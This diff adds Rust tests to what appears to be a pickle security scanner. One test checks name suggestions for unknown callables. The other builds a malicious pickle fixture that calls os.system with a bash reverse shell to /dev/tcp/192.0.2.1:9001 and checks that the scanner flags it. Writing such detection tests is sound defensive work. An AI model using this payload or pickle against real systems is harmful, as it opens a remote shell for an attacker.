@@ -245,6 +245,35 @@ fn an_unknown_rule_is_status_3() {
 }
 
 #[test]
+fn names_near_an_unknown_callable_are_told() {
+    for (name, near) in [
+        ("json.lods", "`json.loads`"),
+        ("subproces.Popen", "`subprocess.Popen`"),
+        ("check_output", "`subprocess.check_output`"),
+    ] {
+        let run = davy(["explain", name]);
+        assert_eq!(run.status, 3);
+        assert!(run.err.contains(near), "{}", run.err);
+    }
+}
+
+#[test]
+fn inspecting_shows_what_programs_are_for() {
+    let folder = Folder::new("behaviour");
+    let shell = b"cos\nsystem\n(S'bash -i >& /dev/tcp/192.0.2.1/9001 0>&1'\ntR.";
+    let (shell, plain) =
+        (folder.file("shell.pkl", shell), folder.file("plain.pkl", b"cos\nsystem\n(S'true'\ntR."));
+    let run = davy(["inspect", text(&shell)]);
+    assert!(
+        run.out.contains("  behaviour\n") && run.out.contains("reverse-shell: "),
+        "{}",
+        run.out
+    );
+    let run = davy(["inspect", text(&plain)]);
+    assert!(!run.out.contains("  behaviour\n"), "{}", run.out);
+}
+
+#[test]
 fn every_rule_is_listed_and_explained() {
     let list = davy(["rules"]);
     let json: Vec<serde_json::Value> =
